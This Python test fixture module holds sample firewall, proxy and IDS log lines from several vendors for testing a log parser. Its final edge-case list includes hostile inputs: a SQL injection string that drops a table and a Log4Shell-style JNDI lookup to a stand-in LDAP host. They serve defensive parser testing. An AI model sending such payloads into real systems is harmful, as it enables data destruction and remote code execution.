"""Log lines used by the tests."""

ASA_BUILT = (
    "<166>Aug 27 10:15:30 fw-edge-01 %ASA-6-302013: Built inbound TCP connection 9812481 for outside:198.51.100.25/443"
    " (198.51.100.25/443) to inside:10.0.0.5/54321 (10.0.0.5/54321)")
ASA_DENY = (
    "<164>Aug 27 10:15:31 fw-edge-01 %ASA-4-106023: Deny tcp src dmz:192.168.1.50/443 dst outside:203.0.113.10/51234"
    ' by access-group "OUTSIDE_BLOCK" [0x12345678, 0x0]')
ASA_TEARDOWN = (
    "<166>Aug 27 10:17:45 fw-edge-01 %ASA-6-302014: Teardown TCP connection 9812481 for outside:198.51.100.25/443 to"
    " inside:10.0.0.5/54321 duration 0:02:15 bytes 48123 TCP FINs")
ASA_DENIED = "%FTD-2-106001: Inbound UDP connection denied from 8.8.8.8/53 to 10.0.0.1/99 flags SYN on interface outside"
ASA_NAT = "%ASA-6-305011: Built dynamic TCP translation from inside:10.0.0.9/1025 to outside:8.8.4.4/2048"
ASA_LOOSE = "%ASA-7-111111: host 1.2.3.4 1.2.3.4 talked to 5.6.7.8 access denied"
PANOS_ALLOW = (
    "CEF:0|Palo Alto Networks|PAN-OS|10.1.0|TRAFFIC|allow|1|src=198.51.100.88 dst=10.0.1.50 spt=61234 dpt=80"
    " proto=TCP act=allow in=1420 out=5820 app=web-browsing cs1=RULE_WEB_PERMIT")
PANOS_THREAT = (
    "CEF:0|Palo Alto Networks|PAN-OS|10.1.0|THREAT|vulnerability|8|src=203.0.113.88 dst=10.0.0.10 spt=55123 dpt=5432"
    " proto=TCP act=reset-both")
PANOS_CSV = (
    "1,2026/08/27 10:15:30,001801,TRAFFIC,drop,1,2026,10.1.1.1,10.2.2.2,4444,443,rule-x,u1,u2,web,v,vsys,z1,z2,e1,e2,"
    "log,t,sess,1111,2222,0,0,0,udp,drop,1 PANOS")
FORTI_KV = (
    'date=2026-08-27 time=10:15:32 devname="FGT-60D" devid="FGT60D0001" level="warning" srcip=192.168.1.100'
    ' srcport=54321 dstip=198.51.100.25 dstport=443 proto=6 action="accept" policyid=1 sentbyte=512 rcvdbyte=1024')
FORTI_LEEF = (
    "LEEF:2.0|Fortinet|FortiGate|6.4.5|0000000015|\tsrc=185.220.101.5\tdst=10.0.0.5\tsrcPort=44123\tdstPort=22"
    "\tproto=TCP\taction=deny\tpolicyid=12")
CHECKPOINT = (
    "<134>Aug 27 10:15:35 chkp-fw01 CheckPoint: action=drop; src=203.0.113.88; dst=10.0.0.1; proto=tcp;"
    " s_port=55123; service=23; rule_name=DROP_TELNET;")
SQUID_DENIED = (
    "1693131336.120    15 192.168.1.100 TCP_DENIED/403 1420 GET http://malicious-domain.xyz/payload.exe - NONE/- text/html")
SQUID_MISS = (
    "1693131337.350    42 192.168.1.105 TCP_MISS/200 8520 GET http://update.security.org/signatures.dat -"
    " DIRECT/198.51.100.25 application/octet-stream")
ZEEK = (
    '{"ts":1693131334.5,"uid":"C1234567890","id.orig_h":"192.168.1.105","id.orig_p":49152,"id.resp_h":"10.0.0.10",'
    '"id.resp_p":5432,"proto":"tcp","service":"postgresql","duration":0.045,"orig_bytes":1024,"resp_bytes":4096,'
    '"conn_state":"SF"}')
SURICATA_ALERT = (
    '{"timestamp":"2026-08-27T10:15:33.123456+0000","flow_id":7,"event_type":"alert","src_ip":"185.220.101.5",'
    '"src_port":49152,"dest_ip":"10.0.0.5","dest_port":22,"proto":"TCP","alert":{"action":"blocked",'
    '"signature_id":2001219,"signature":"ET SCAN SSH","category":"Attempted Leak","severity":1}}')
SURICATA_HTTP = (
    '{"timestamp":"2026-08-27T10:15:33.123456+0000","flow_id":8,"event_type":"http","src_ip":"10.0.0.7",'
    '"dest_ip":"10.0.0.9","proto":"TCP","http":{"hostname":"internal.example.org","url":"/t","http_method":"GET",'
    '"status":200},"flow":{"bytes_toclient":10,"bytes_toserver":20,"pkts_toclient":1,"pkts_toserver":2}}')
RFC5424 = "<134>1 2026-08-27T10:15:30.123Z edge-firewall Router 10.1.0 TRAFFIC - allow src=192.168.1.10 dst=10.0.0.5"
RFC3164 = "<34>Aug 27 10:15:30 host-1 sshd: deny from 8.8.8.8 to 10.0.0.1"
GENERIC_JSON = (
    '{"vendor":"Acme","source_ip":"8.8.8.1","dst":"10.0.0.1","sport":1,"action":"deny","severity_id":4,'
    '"nested":{"a":1},"status":"login failed","timestamp":"2026/08/27 10:15:30"}')
CEF_ESCAPED = r"CEF:0|a\|b|pro\\d|1|2|na me|9|msg=a\=b c src=1.2.3.4 spt=99 shost=h k=x y"
LEEF_CARET = "LEEF:2.0|Acme|Gate|1.0|EV1|^|src=1.1.1.1^dst=2.2.2.2^sev=9^totalBytes=77^act=allowed"
LEEF_HEX = "LEEF:2.0|Acme|Gate|1.0|EV1|x7C|src=1.1.1.1|dst=2.2.2.2|sev=5"
LEEF_LOOSE = "LEEF:1.0|Acme|Gate|1.0|EV1|src=1.1.1.1 dst=2.2.2.2 msg=two words"
UNKNOWN = [
    '[APPLIANCE-FW] 2026-08-27T10:15:40Z DEV=EDGE-FW-09 RULE=BLOCK_SSH SRC=185.220.101.5:49152 DST=10.0.0.5:22'
    ' PROTO=TCP ACTION=DENY BYTES=120 REASON="BRUTE_FORCE_BURST"',
    '[APPLIANCE-FW] 2026-08-27T10:15:41Z DEV=EDGE-FW-09 RULE=BLOCK_RDP SRC=185.220.101.6:49153 DST=10.0.0.10:3389'
    ' PROTO=TCP ACTION=DENY BYTES=240 REASON="POLICY"',
    '[APPLIANCE-FW] 2026-08-27T10:15:42Z DEV=EDGE-FW-10 RULE=ALLOW_WEB SRC=8.8.8.8:50000 DST=10.0.1.50:443'
    ' PROTO=TCP ACTION=ALLOW BYTES=999 REASON="OK"',
]
ALL = [
    ASA_BUILT, ASA_DENY, ASA_TEARDOWN, ASA_DENIED, ASA_NAT, ASA_LOOSE, PANOS_ALLOW, PANOS_THREAT, PANOS_CSV, FORTI_KV,
    FORTI_LEEF, CHECKPOINT, SQUID_DENIED, SQUID_MISS, ZEEK, SURICATA_ALERT, SURICATA_HTTP, RFC5424, RFC3164,
    GENERIC_JSON, CEF_ESCAPED, LEEF_CARET, LEEF_HEX, LEEF_LOOSE, *UNKNOWN,
    "   ", "CEF:0|a|b", "CheckPoint: src=10.0.1; dst=10.0.0.1; action=accept", '{"a":1}{"b":2}', "[1,2,3]",
    "plain words only", "'; DROP TABLE events; --", "${jndi:ldap://x/a}", "a\u0000b", "<!DOCTYPE x>",
    "%ASA-9-bad", "LEEF:1.0|a|b", '{"event_type": "alert", "src_ip": ', "TCP_MISS/200 short", "PAN-OS k=v,x",
]
